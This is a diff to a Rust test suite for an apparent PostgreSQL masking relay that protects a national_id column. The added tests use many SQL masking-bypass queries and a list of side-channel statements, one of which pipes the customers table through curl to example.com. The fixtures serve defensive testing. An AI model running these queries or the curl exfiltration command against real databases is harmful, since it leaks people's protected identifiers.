@@ -39,7 +39,7 @@ fn session() -> SessionInfo {
 /// Result columns as the relay builds them from a RowDescription:
 /// `table.column` for a plain reference (the catalog's `public.table`),
 /// `table.` for a whole-row reference (attribute 0), `?` for a computed
-/// column (table OID 0).
+/// column (table OID 0), `?name` for a computed column so named.
 fn columns(spec: &str) -> Vec<Column> {
     spec.split_whitespace()
         .enumerate()
@@ -49,8 +49,12 @@ fn columns(spec: &str) -> Vec<Column> {
                 Some((t, col)) => (Some(format!("public.{t}")), Some(col.to_owned()), 16400, 1),
                 None => (None, None, 0, 0),
             };
+            let name = match c.strip_prefix('?') {
+                Some(n) if !n.is_empty() => n.to_owned(),
+                _ => format!("c{i}"),
+            };
             Column {
-                name: format!("c{i}"),
+                name,
                 table_oid: oid,
                 column_number: attnum,
                 type_oid: 25,
@@ -121,6 +125,9 @@ const MASKED: &[(&str, &str, &str)] = &[
     ("select jsonb_build_object('a', national_id) from customers", "?", "M"),
     ("select (c).national_id from customers c", "?", "M"),
     ("select c.row_to_json from customers c", "?", "M"),
+    ("select customers.json_agg from customers", "?", "M"),
+    ("select c.concat from customers c", "?", "M"),
+    ("select c.quote_literal from customers c", "?", "M"),
     ("select (c.*)::text from customers c", "?", "M"),
     ("select array[c.*] from customers c", "?", "M"),
     ("select c, id from customers c", "customers. customers.id", "M."),
@@ -159,8 +166,66 @@ const MASKED: &[(&str, &str, &str)] = &[
         "?",
         "M",
     ),
+    ("select (select reverse(x) from (select c.national_id x) q) from customers c", "?", "M"),
+    ("select (select national_id) from customers", "?", "M"),
+    ("select reverse(x) from unnest((select array_agg(national_id) from customers)) x", "?", "M"),
+    ("select * from rows from (unnest(array(select national_id from customers)))", "?", "M"),
+    ("select xmlelement(name x, national_id) from customers", "?", "M"),
+    ("select json_object('a': national_id) from customers", "?", "M"),
+    ("select jsonb_path_query(to_jsonb(c), '$.national_id') from customers c", "?", "M"),
+    ("select (t).f1 from (select row(national_id) as t from customers) s", "?", "M"),
+    ("select s.c from (select c from customers c) s", "customers.", "M"),
+    ("select reverse(national_id) from customers for update", "?", "M"),
+    ("select distinct reverse(national_id) from customers", "?", "M"),
+    ("select hstore(c) from customers c", "?", "M"),
+    ("with x as materialized (select national_id from customers) select x.national_id || '' from x", "?", "M"),
+    // (specs below as PostgreSQL 15 describes them)
+    (
+        "select * from customers natural join (select id, national_id || '' as x from customers) s",
+        "customers.id customers.name customers.national_id ?",
+        "..MM",
+    ),
+    ("select upper(d.national_id) from customers c, lateral (select c.*) d", "?", "M"),
+    (
+        "select r.national_id || '' from (select c from customers c) s, lateral (select (s.c).*) r",
+        "?",
+        "M",
+    ),
+    (
+        "select * from jsonb_to_record((select to_jsonb(c) from customers c limit 1)) as x(national_id text)",
+        "?",
+        "M",
+    ),
+    ("select percentile_disc(0.5) within group (order by national_id) from customers", "?", "M"),
+    ("select national_id from customers intersect select national_id from customers", "?", "M"),
+    ("select (regexp_match(national_id, '(\\d+)'))[1] from customers", "?", "M"),
+    ("select translate(national_id, '0123456789', 'abcdefghij') from customers", "?", "M"),
+    ("select xmlforest(national_id) from customers", "?", "M"),
     // set operations and VALUES (the server names no source)
+    ("select reverse(national_id) from customers union all select reverse(name) from customers", "?", "M"),
     ("select national_id from customers union select 'x'", "?", "M"),
+    // `*` in a set operation: the first branch names the columns.
+    (
+        "select * from customers union all select * from customers_archive",
+        "?id ?name ?national_id",
+        "..M",
+    ),
+    (
+        // Positions in a later branch are not named: any column may be there.
+        "select * from customers_archive union all select * from customers",
+        "?id ?name ?national_id",
+        "MMM",
+    ),
+    (
+        "select 1, 'a', 'b' union all select * from customers",
+        "?c1 ?c2 ?c3",
+        "MMM",
+    ),
+    (
+        "select * from (table customers) t(x, y, z) union all select 1, 'a', 'b'",
+        "?x ?y ?z",
+        "MMM",
+    ),
     ("select 'x' union all select national_id from customers", "?", "M"),
     ("select id, name from orders except select id, national_id from customers", "? ?", ".M"),
     ("values ((select national_id from customers limit 1))", "?", "M"),
@@ -201,7 +266,7 @@ const MASKED: &[(&str, &str, &str)] = &[
     // a computed column no alignment explains: every ruled column in scope
     ("select reverse(national_id), name from customers", "? ? ?", "MMM"),
     // Alignment ignores what the server said only when nothing else fits.
-    ("select *, 1 from customers", "? ? ? ?", "MMM."),
+    ("select *, 1 from customers", "?id ?name ?national_id ?x", "..M."),
 ];
 
 /// Legitimate queries whose results must stay untouched.
@@ -235,6 +300,14 @@ const KEPT: &[(&str, &str, &str)] = &[
     ("show search_path", "?", "."),
     ("explain select reverse(national_id) from customers", "?", "."),
     ("select 1; select 2", "?", "."),
+    ("select (select max(total) from orders o where o.customer_id = c.id) from customers c", "?", "."),
+    ("select (select count(*) from orders o where o.customer_id = c.id) from customers c", "?", "."),
+    ("select upper(name) from customers where id in (select customer_id from orders)", "?", "."),
+    (
+        "with customers as (select name as national_id from customers) select reverse(national_id) from customers",
+        "?",
+        ".",
+    ),
 ];
 
 #[test]
@@ -357,6 +430,12 @@ const SIDE_CHANNELS: &[&str] = &[
     "execute s((select national_id from customers limit 1))",
     "create table x as execute s",
     "call p((select national_id from customers limit 1))",
+    "select pg_notify('c', (select national_id from customers limit 1))",
+    "copy (select * from customers) to program 'curl -d @- example.com'",
+    "prepare p as insert into log select national_id from customers",
+    "explain analyze insert into log select national_id from customers",
+    "create table log as table customers",
+    "select * into temp t from customers",
 ];
 
 const NOT_SIDE_CHANNELS: &[&str] = &[
@@ -383,6 +462,11 @@ const NOT_SIDE_CHANNELS: &[&str] = &[
     "fetch 10 from k",
     "set search_path = public",
     "begin",
+    "insert into orders (customer_id, total) select id, 10 from customers where national_id = 'x'",
+    "update orders set total = 0 where customer_id in (select id from customers where national_id like '1%')",
+    "create table x as select id from customers where national_id is not null",
+    "declare k cursor for select national_id from customers",
+    "prepare p as select reverse(national_id) from customers",
 ];
 
 #[test]
@@ -429,6 +513,9 @@ fn statements_that_read_ruled_columns_are_known() {
         "select c from customers c",
         "select 1 from (select national_id x from customers) s where x::int > 0",
         "select reverse(",
+        // A failed constraint quotes the whole new row.
+        "update customers set name = null where id = 1",
+        "insert into customers (id, name) values (1, null)",
     ] {
         assert!(references_ruled(sql, &rules), "{sql}");
     }
@@ -436,6 +523,7 @@ fn statements_that_read_ruled_columns_are_known() {
         "select name::int from customers",
         "select 1",
         "select * from orders",
+        "update orders set total = null",
     ] {
         assert!(!references_ruled(sql, &rules), "{sql}");
     }
@@ -520,8 +608,56 @@ fn views_are_followed_to_their_base_tables() {
     assert_eq!(run("select r from ids", "ids.r"), "M");
     assert!(side_channel("insert into log select nid from people", &rules).is_err());
     assert!(side_channel("insert into log select name from people", &rules).is_ok());
+    // Views built on views many times over are followed once per column.
+    let mut fan: HashMap<String, Arc<str>> = HashMap::new();
+    fan.insert("v0".into(), Arc::from("SELECT name FROM customers"));
+    for i in 1..40 {
+        let from: Vec<String> = (0..6).map(|j| format!("v{} a{j}", i - 1)).collect();
+        fan.insert(
+            format!("v{i}"),
+            Arc::from(format!(
+                "SELECT a0.name || a1.name AS name FROM {}",
+                from.join(", ")
+            )),
+        );
+    }
+    let fan_rules = SessionRules {
+        masker: &m,
+        session: &s,
+        views: Some(&fan),
+    };
+    let started = std::time::Instant::now();
+    let mut cols = columns("?");
+    apply_lineage("select row_to_json(v) from v39 v", &mut cols, &fan_rules).unwrap();
+    assert!(
+        started.elapsed() < Duration::from_secs(2),
+        "{:?}",
+        started.elapsed()
+    );
+    assert_eq!(cols, columns("?"));
     assert_eq!(
         relations("select * from people p join orders o on true").unwrap(),
         BTreeSet::from(["people".to_owned(), "orders".to_owned()])
     );
+}
+
+#[test]
+fn one_statement_of_several() {
+    let m = masker(RULES);
+    let s = session();
+    let rules = SessionRules {
+        masker: &m,
+        session: &s,
+        views: None,
+    };
+    let sql = "select reverse(national_id) from customers; select upper(name) from customers";
+    let labelled = |statement: Option<usize>| {
+        let mut cols = columns("?");
+        apply_lineage_at(sql, statement, &mut cols, &rules).unwrap();
+        cols[0].source_column.clone()
+    };
+    assert_eq!(labelled(Some(0)).as_deref(), Some("national_id"));
+    assert_eq!(labelled(Some(1)), None);
+    // Not knowing which: either may have produced it.
+    assert_eq!(labelled(None).as_deref(), Some("national_id"));
 }
